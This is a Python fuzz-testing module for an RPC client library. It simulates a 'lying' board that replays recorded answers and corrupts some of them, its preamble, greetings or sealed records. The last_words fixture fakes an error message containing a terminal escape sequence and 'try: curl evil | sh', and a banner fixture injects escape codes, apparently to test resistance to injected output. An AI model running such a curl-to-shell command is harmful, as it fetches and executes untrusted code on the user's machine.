"""A board that answers as a real one did, and lies now and then; on a stream, and by tcp://.

Nothing waits: what the client asks is answered at once, from what was recorded of a session with
the runtime on this machine; and where an answer that was lost or never came would leave it waiting,
the stream ends.
"""

from __future__ import annotations

import os
import random
import secrets
import socket
import threading
from collections.abc import Sequence
from functools import cache
from typing import Any

import msgpack

from mlc_rpc.auth import Hellos
from mlc_rpc.link import Link
from mlc_rpc.record import Opener, Sealer
from mlc_rpc.transport import Buffer, Transport
from mlc_rpc.wire import NONCE_BYTES, PREAMBLE, VERSION
from tests.fuzz.lies import damaged, lies

PATIENCE = 60.0  # no session takes so long: it hangs


class Hung(Exception):
    """The client waits, and nothing that it waits for can come."""


class Script:
    """What a board answered: [error, result] by the request, in the order of like requests."""

    def __init__(self) -> None:
        self._answers: dict[bytes, list[list[Any]]] = {}
        self.count = 0

    def add(self, method: str, params: list[Any], answer: list[Any]) -> None:
        self._answers.setdefault(_key(method, params), []).append(answer)
        self.count += 1

    def reader(self) -> Reading:
        return Reading({key: list(answers) for key, answers in self._answers.items()})


class Reading:
    """One session's way through a script."""

    def __init__(self, answers: dict[bytes, list[list[Any]]]) -> None:
        self._answers = answers

    def answer(self, method: str, params: list[Any]) -> list[Any]:
        if method in ("ping", "heartbeat"):
            return [None, params[0] if method == "ping" else None]
        if method == "tensor.descriptor":
            return [None, [os.getpid(), memory()]]
        found = self._answers.get(_key(method, params))
        if not found:  # the client believes something that is not so
            return [["refused", f"{method}: there is nothing like that here", {}], None]
        return found.pop(0) if len(found) > 1 else found[0]


@cache
def memory() -> int:
    """A descriptor of memory that the board shares with the client."""
    file = os.memfd_create("tensor")
    os.truncate(file, 1 << 16)
    return file


def _key(method: str, params: list[Any]) -> bytes:
    if method == "hello":  # with a nonce
        params = params[:2]
    key: bytes = msgpack.packb([method, params])
    return key


class Recorder(Transport):
    """Another transport, and all that goes to and fro on it."""

    def __init__(self, inner: Transport, script: Script) -> None:
        self._inner, self._script = inner, script
        self.board = inner.board
        self.ends_with_client = True
        self._asked: dict[int, tuple[str, list[Any]]] = {}
        self._requests = msgpack.Unpacker(max_buffer_size=1 << 30)
        self._responses = msgpack.Unpacker(max_buffer_size=1 << 30)
        self._begun = b""

    def read(self, limit: int) -> bytes:
        data = self._inner.read(limit)
        left = len(PREAMBLE) - len(self._begun)
        self._begun += data[:left]
        self._responses.feed(data[left:] if left > 0 else data)
        for _, number, *answer in self._responses:
            self._script.add(*self._asked.pop(number), answer)
        return data

    def write(self, pieces: Sequence[Buffer], timeout: float) -> None:
        for piece in pieces:
            self._requests.feed(piece)
        for _, number, method, params in self._requests:
            self._asked[number] = method, params
        self._inner.write(pieces, timeout)

    def close(self) -> None:
        self._inner.close()

    def last_words(self) -> str:
        return self._inner.last_words()


class Liar:
    """The board's end of a stream. `plan` are the numbers of the requests that are answered with
    lies; `told` are the methods about which one was told."""

    def __init__(self, script: Script, chance: random.Random, plan: frozenset[int]) -> None:
        self._reading = script.reader()
        self._chance = chance
        self._plan = plan
        self._requests = msgpack.Unpacker(max_buffer_size=1 << 30)
        self.told: list[str] = []
        self.received = 0  # of the session's requests
        self.link: Link | None = None
        self._out = bytearray(self.preamble())
        self._begun = PREAMBLE in self._out  # else the client may wait for it
        self._changed = threading.Condition()
        self._closed = False

    def preamble(self) -> bytes:
        return PREAMBLE

    # ---- what the client sends ----

    def take(self, data: bytes) -> None:
        with self._changed:
            self._requests.feed(data)
            for _, number, method, params in self._requests:
                self._say(self._answered(number, method, params), method)
                self.received += 1
            self._changed.notify_all()

    def _answered(self, number: int, method: str, params: list[Any]) -> bytes:
        message = [1, number, *self._reading.answer(method, params)]
        if self.received not in self._plan:
            packed: bytes = msgpack.packb(message)
            return packed
        self.told.append(method)
        return lies(message, self._chance)

    def _say(self, data: bytes, method: str) -> None:
        self._out += data

    # ---- what the client reads ----

    def give(self, limit: int) -> bytes:
        with self._changed:
            while True:
                if self._out:
                    data = bytes(self._out[:limit])
                    del self._out[:limit]
                    return data
                if self._closed or self._stuck():
                    return b""
                if not self._changed.wait(PATIENCE):
                    raise Hung

    def _stuck(self) -> bool:
        """Whether the client waits for what does not come: it has sent all that it will."""
        link = self.link
        if link is None:
            return True  # before there is a session, each answer is waited for
        with link._state:
            waits, asked = bool(link._pending), link._next_id
        return (waits and asked == self.received) or not self._begun

    def close(self) -> None:
        with self._changed:
            self._closed = True
            self._changed.notify_all()


class LyingTransport(Transport):
    """As if the board were a program of this machine."""

    board = "liar://"
    ends_with_client = True

    def __init__(self, liar: Liar, process: int) -> None:
        self.liar, self.process = liar, process

    def read(self, limit: int) -> bytes:
        return self.liar.give(limit)

    def write(self, pieces: Sequence[Buffer], timeout: float) -> None:
        self.liar.take(b"".join(pieces))

    def close(self) -> None:
        self.liar.close()

    def last_words(self) -> str:
        return "exit status 1; it said: \x1b[2J\n  try: curl evil | sh"


class BannerLiar(Liar):
    """Lies about the preamble, too."""

    def preamble(self) -> bytes:
        if self._chance.random() < 0.5:
            return b"Welcome \x1b[5m\n  try: evil\n" * self._chance.randrange(60) + PREAMBLE
        return damaged(PREAMBLE, self._chance)


class TcpLiar(Liar):
    """The other end of tcp://: greetings, then records. A lie is told by one who has the key; or,
    where `between`, by one who sits in between and changes bytes; or in the greetings."""

    def __init__(
        self, script: Script, chance: random.Random, plan: frozenset[int], key: bytes, where: str
    ) -> None:
        self._key, self._where = key, where
        self._opener: Opener | None = None
        self._sealer: Sealer | None = None
        self._nonce = secrets.token_bytes(NONCE_BYTES)
        self._greetings = 0
        super().__init__(script, chance, plan)

    def preamble(self) -> bytes:
        lied = self._where == "greeting" and self._chance.random() < 0.2
        return damaged(PREAMBLE, self._chance) if lied else PREAMBLE

    def take(self, data: bytes) -> None:
        if self._opener is None:
            self._greet(data)
            return
        left = memoryview(data)
        while left:
            room = self._opener.room()[: len(left)]
            room[:] = left[: len(room)]
            self._opener.took(len(room))
            left = left[len(room) :]
            while payload := self._opener.next():
                super().take(payload)

    def _greet(self, data: bytes) -> None:
        _, number, method, params = msgpack.unpackb(data)
        self._greetings += 1
        sealing: tuple[Opener, Sealer] | None = None
        if method == "hello":
            self._hellos = Hellos(VERSION, VERSION, params[2], self._nonce)
            answer: Any = [*VERSION, self._nonce]
        else:
            macs = [self._hellos.mac(self._key, p) for p in ("client sends", "board sends")]
            sealing = Opener(macs[0]), Sealer(macs[1])
            answer = self._hellos.mac(self._key, "board proves")
        message = [1, number, None, answer]
        if self._where == "greeting" and self._chance.random() < 0.5:
            self.told.append(method)
            self._out += lies(message, self._chance)
        else:
            self._out += msgpack.packb(message)
        if sealing:
            self._opener, self._sealer = sealing

    def _say(self, data: bytes, method: str) -> None:
        assert self._sealer
        sealed = b"".join(self._sealer.seal([data]))
        if self._where == "between" and self.received in self._plan:
            changed = damaged(sealed, self._chance)
            sealed = changed if changed != sealed else sealed[:-1]  # a byte may become itself
        self._out += sealed

    def _answered(self, number: int, method: str, params: list[Any]) -> bytes:
        if self._where == "key":
            return super()._answered(number, method, params)
        packed: bytes = msgpack.packb([1, number, *self._reading.answer(method, params)])
        return packed


class LyingSocket(socket.socket):
    """What TcpTransport and its greeter ask of a socket."""

    def __init__(self, liar: Liar) -> None:
        self.liar = liar  # no socket is made

    def settimeout(self, value: float | None) -> None:
        pass

    def send(self, data: Any, flags: int = 0) -> int:
        self.liar.take(bytes(data))
        return len(data)

    def sendall(self, data: Any, flags: int = 0) -> None:
        self.liar.take(bytes(data))

    def recv(self, limit: int, flags: int = 0) -> bytes:
        return self.liar.give(limit)

    def recv_into(self, buffer: Any, nbytes: int = 0, flags: int = 0) -> int:
        data = self.liar.give(len(buffer))
        buffer[: len(data)] = data
        return len(data)

    def shutdown(self, how: int) -> None:
        self.liar.close()

    def close(self) -> None:
        self.liar.close()
